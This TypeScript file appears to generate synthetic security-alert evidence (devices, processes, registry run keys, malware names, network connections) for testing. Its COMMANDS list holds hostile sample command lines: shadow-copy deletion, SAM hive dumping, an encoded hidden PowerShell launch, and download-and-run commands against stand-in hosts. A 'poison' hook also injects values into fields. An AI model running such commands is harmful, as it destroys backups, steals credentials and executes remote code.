import { HOUR_MS, MINUTE_MS } from '#shared/time.ts';
import { type DeviceEntity, type FileEntity, outsideAddress, type UserEntity } from './entities.ts';
import {
  anotherDevice,
  anotherFile,
  anotherUser,
  type EvidenceContext,
  earlier,
  evidenceBase,
  type Json,
} from './evidence-context.ts';
import { words } from './words.ts';

/** Evidence found on computers: devices, files, processes, registry, sessions, networks. */

export function userAccount(user: UserEntity, poison?: string): Json {
  return {
    accountName: user.accountName,
    domainName: user.ntDomain,
    userSid: user.sid,
    azureAdUserId: user.objectId,
    userPrincipalName: user.userPrincipalName,
    displayName: poison ?? user.displayName,
    activeDirectoryObjectGuid: user.directoryGuid,
  };
}

export function fileDetails(file: FileEntity, name = file.name): Json {
  return {
    sha1: file.sha1,
    sha256: file.sha256,
    sha256Ac: null,
    md5: file.md5,
    fileName: name,
    filePath: file.path,
    fileSize: file.size,
    filePublisher: null,
    signer: null,
    issuer: null,
  };
}

function deviceFields(device: DeviceEntity, context: EvidenceContext): Json {
  const { draws, user } = context;
  return {
    azureAdDeviceId: device.entraId,
    mdeDeviceId: device.mdeId,
    deviceDnsName: device.dnsName,
    hostName: device.hostName,
    dnsDomain: device.dnsDomain,
    ntDomain: device.ntDomain,
    osPlatform: device.os,
    osBuild: device.build,
    version: device.version,
    firstSeenDateTime: earlier(context, 90 * 24 * HOUR_MS),
    healthStatus: draws.chance(0.9) ? 'active' : 'inactive',
    riskScore: draws.pick(['none', 'low', 'medium', 'high', 'informational']),
    onboardingStatus: 'onboarded',
    defenderAvStatus: draws.chance(0.9) ? 'updated' : 'notUpdated',
    rbacGroupId: 0,
    rbacGroupName: null,
    lastIpAddress: device.ip,
    lastExternalIpAddress: outsideAddress(draws),
    ipInterfaces: [device.ip, 'fe80::1'],
    loggedOnUsers: [{ accountName: user.accountName, domainName: user.ntDomain }],
    resourceAccessEvents: [],
    vmMetadata: null,
  };
}

const COMMANDS = words(`
  powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=,
  cmd.exe /c vssadmin delete shadows /all /quiet,
  rundll32.exe C:\\ProgramData\\Updates\\loader.dll #1,
  "C:\\Windows\\System32\\net.exe" group "Domain Admins" /domain,
  reg.exe save hklm\\sam C:\\Users\\Public\\s.hiv,
  wmic.exe /node:srv-0007 process call create "cmd /c whoami > c:\\o.txt",
  certutil.exe -urlcache -split -f https://cdn-update-1f0.example/a.bin a.exe,
  schtasks.exe /create /sc minute /tn Updater /tr C:\\Users\\Public\\u.exe,
  bash -c "curl -fsSL https://cdn-update-9c1.example/i.sh | sh",
  mshta.exe https://payroll-portal-77a.example/x.hta
`);

export const ENDPOINT_EVIDENCE: Record<string, (context: EvidenceContext) => Json> = {
  device: (context) => ({
    ...evidenceBase(context, 'device'),
    ...deviceFields(context.draws.chance(0.85) ? context.device : anotherDevice(context), context),
  }),
  user: (context) => ({
    ...evidenceBase(context, 'user'),
    userAccount: userAccount(
      context.draws.chance(0.8) ? context.user : anotherUser(context),
      context.poison.displayName,
    ),
    stream: null,
  }),
  file: (context) => ({
    ...evidenceBase(context, 'file'),
    detectionStatus: context.draws.pick(['detected', 'prevented', 'blocked']),
    mdeDeviceId: context.device.mdeId,
    fileDetails: fileDetails(
      context.draws.chance(0.5) ? context.file : anotherFile(context),
      context.poison.fileName,
    ),
  }),
  process: (context) => {
    const { draws, device, user, file, poison } = context;
    return {
      ...evidenceBase(context, 'process'),
      processId: draws.between(400, 65_000),
      parentProcessId: draws.between(400, 65_000),
      processCommandLine: poison.commandLine ?? draws.pick(COMMANDS),
      processCreationDateTime: context.at,
      parentProcessCreationDateTime: earlier(context, 3 * MINUTE_MS),
      detectionStatus: 'detected',
      mdeDeviceId: device.mdeId,
      imageFile: fileDetails(file, poison.fileName),
      parentProcessImageFile: null,
      userAccount: userAccount(user),
    };
  },
  registryKey: (context) => ({
    ...evidenceBase(context, 'registryKey'),
    registryHive: 'HKEY_LOCAL_MACHINE',
    registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
  }),
  registryValue: (context) => ({
    ...evidenceBase(context, 'registryValue'),
    mdeDeviceId: context.device.mdeId,
    registryHive: 'HKEY_CURRENT_USER',
    registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce',
    registryValueName: 'Updater',
    registryValue: `${context.file.path}\\${context.poison.fileName ?? context.file.name}`,
    registryValueType: 'String',
  }),
  fileHash: (context) => ({
    ...evidenceBase(context, 'fileHash'),
    algorithm: 'sha256',
    value: context.file.sha256,
  }),
  malware: (context) => ({
    ...evidenceBase(context, 'malware'),
    name: context.draws.pick([
      'Trojan:Win32/Wacatac.B!ml',
      'HackTool:Win32/Mimikatz.D',
      'Ransom:Win32/Conti.ZA',
      'Behavior:Win32/Cobaltstrike.E!sms',
    ]),
    category: 'Trojan',
    files: [ENDPOINT_EVIDENCE['file']?.(context) ?? {}],
    processes: [],
  }),
  hostLogonSession: (context) => ({
    ...evidenceBase(context, 'hostLogonSession'),
    sessionId: `0x${context.draws.hex(6)}`,
    startUtcDateTime: earlier(context, 20 * MINUTE_MS),
    endUtcDateTime: null,
    account: ENDPOINT_EVIDENCE['user']?.(context) ?? null,
    host: ENDPOINT_EVIDENCE['device']?.(context) ?? null,
  }),
  ip: (context) => ({
    ...evidenceBase(context, 'ip'),
    ipAddress: outsideAddress(context.draws),
    countryLetterCode: context.draws.pick([
      'BR',
      'RO',
      'VN',
      'NG',
      'US',
      'NL',
      context.tenant.country,
    ]),
    location: { city: null, countryName: null, state: null, latitude: 52.5, longitude: 13.4 },
    stream: null,
  }),
  networkConnection: (context) => ({
    ...evidenceBase(context, 'networkConnection'),
    protocol: 'tcp',
    sourceAddress: null,
    sourcePort: context.draws.between(49_152, 65_535),
    destinationAddress: ENDPOINT_EVIDENCE['ip']?.(context) ?? null,
    destinationPort: context.draws.pick([443, 80, 445, 3389, 8080]),
  }),
  nic: (context) => ({
    ...evidenceBase(context, 'nic'),
    macAddress: `00-15-5D-${context.draws.hex(2)}-${context.draws.hex(2)}-01`.toUpperCase(),
    ipAddress: null,
    vlans: ['120'],
  }),
  ioTDevice: (context) => ({
    ...evidenceBase(context, 'ioTDevice'),
    deviceId: context.draws.uuid(),
    deviceName: `PLC-${context.draws.between(1, 90)}`,
    deviceType: 'PLC',
    deviceSubType: 'OT',
    manufacturer: 'Siemens',
    model: 'S7-1500',
    operatingSystem: null,
    macAddress: '00-1C-06-11-22-33',
    serialNumber: context.draws.hex(10),
    importance: 'high',
    isAuthorized: false,
    isProgramming: true,
    isScanner: false,
    purdueLayer: '1',
    protocols: ['S7', 'Modbus'],
    owners: [],
    nics: [],
    site: context.tenant.city,
    zone: 'Line 2',
    sensor: 'sensor-1',
  }),
};
